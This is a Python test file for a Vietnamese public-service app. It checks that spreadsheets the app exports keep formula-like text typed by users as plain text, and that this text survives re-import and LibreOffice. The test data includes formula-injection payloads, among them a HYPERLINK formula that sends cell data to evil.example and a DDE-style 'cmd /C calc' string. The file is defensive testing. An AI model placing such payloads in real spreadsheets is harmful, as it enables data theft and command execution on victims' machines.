"""Issue 16 item 5: text people typed never becomes a formula in the spreadsheets the app writes, and the
register still goes out and comes back in unchanged."""
import csv
import shutil
import subprocess
from io import BytesIO

import openpyxl
import pytest
import sqlalchemy as sa

from onestop import ledger_import, periods, report_files, statistics
from onestop.documents.xlsx import tthc_xlsx
from onestop.extensions import db
from onestop.models import Dossier, Event, Field, Leg, Pause, Survey

from reportdata import CHILD_CODE, build

MARCH = periods.official_month(2026, 3)
# What a hostile applicant or clerk types: each would be computed (or call out) if written as a formula.
NAME = '=HYPERLINK("http://evil.example/?d="&B6,"Bấm vào đây")'
SUM = "=1+1"
ADDRESS = "+1+1 thôn Đông"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3 xóm Trại"


def _hostile_register(session):
    built = build()
    dossiers = {d.code.rsplit("-", 1)[-1]: d for d in db.session.scalars(sa.select(Dossier))}
    dossiers["0005"].applicant_name = NAME
    dossiers["0005"].applicant_address = ADDRESS
    dossiers["0005"].note = NOTE
    dossiers["0006"].applicant_name = SUM
    dossiers["0006"].applicant_address = MINUS
    dossiers["0006"].note = "\t=2+2"
    dossiers["0002"].note = "\r=3+3"
    db.session.flush()
    return built, report_files.register(built.home, MARCH)


def _cells(data: bytes) -> dict:
    """Every non-empty cell of the first sheet by its text, as openpyxl reads it back (formulas not computed)."""
    sheet = openpyxl.load_workbook(BytesIO(data)).active
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_typed_text_starting_like_a_formula_is_written_as_text_in_the_register(session):
    _, data = _hostile_register(session)
    cells = _cells(data)
    for text in (NAME, SUM, NOTE, f"{ADDRESS}", "\t=2+2", "\r=3+3"):
        found = [cell for value, cell in cells.items() if value == text or value.startswith(text)]
        assert found, text
        assert all(cell.data_type == "s" for cell in found), text  # "f" would be a formula
        assert all(cell.quotePrefix for cell in found), text  # editing it in Excel keeps it text
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_the_statistics_workbook_writes_imported_names_as_text(session):
    built = build()
    built.child.name = "=1+1"
    db.session.scalar(sa.select(Field).where(Field.name == "Hộ tịch")).name = "=SUM(9,9)"  # from a catalogue file
    db.session.flush()
    report = statistics.tthc_report(built.home, MARCH, MARCH.end)
    workbook = openpyxl.load_workbook(BytesIO(tthc_xlsx(report, "=2+2", receiver="@SUM(1)")))
    values = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not any(cell.data_type == "f" for cell in values)
    child = workbook[CHILD_CODE]
    assert child["A4"].value == "Đơn vị báo cáo: =1+1"
    fields = [cell for cell in values if cell.value == "=SUM(9,9)"]
    assert len(fields) == 3 and all(cell.data_type == "s" for cell in fields)  # the summary and each unit


def test_the_register_with_formula_like_text_comes_back_unchanged_on_import(session):
    built, data = _hostile_register(session)
    for model in (Survey, Leg, Pause, Event, Dossier):
        db.session.execute(sa.delete(model))
    db.session.flush()
    assert ledger_import.import_file(data, "so.xlsx", built.home) == 10
    by_code = {d.code.rsplit("-", 1)[-1]: d for d in db.session.scalars(sa.select(Dossier))}
    assert (by_code["0005"].applicant_name, by_code["0005"].applicant_address, by_code["0005"].note) == (
        NAME, ADDRESS, NOTE)
    assert (by_code["0006"].applicant_name, by_code["0006"].applicant_address) == (SUM, MINUS)
    assert by_code["0006"].note == "=2+2"  # the importer trims the leading tab, as for any cell


@pytest.mark.libreoffice
def test_libreoffice_shows_the_typed_text_not_a_computed_value(session, tmp_path):
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    _, data = _hostile_register(session)
    source = tmp_path / "so.xlsx"
    source.write_bytes(data)
    # Calc opens the workbook, recalculates what it takes for formulas, and saves what each cell shows.
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=120)
    shown = list(csv.reader((tmp_path / "so.csv").read_text(encoding="utf-8").splitlines()))
    texts = {cell for row in shown for cell in row}
    for text in (NAME, SUM, NOTE, ADDRESS, MINUS):
        assert any(cell == text or cell.startswith(text) for cell in texts), (text, shown[5:8])
    assert "Bấm vào đây" not in texts and "2" not in {row[5] for row in shown[5:]}
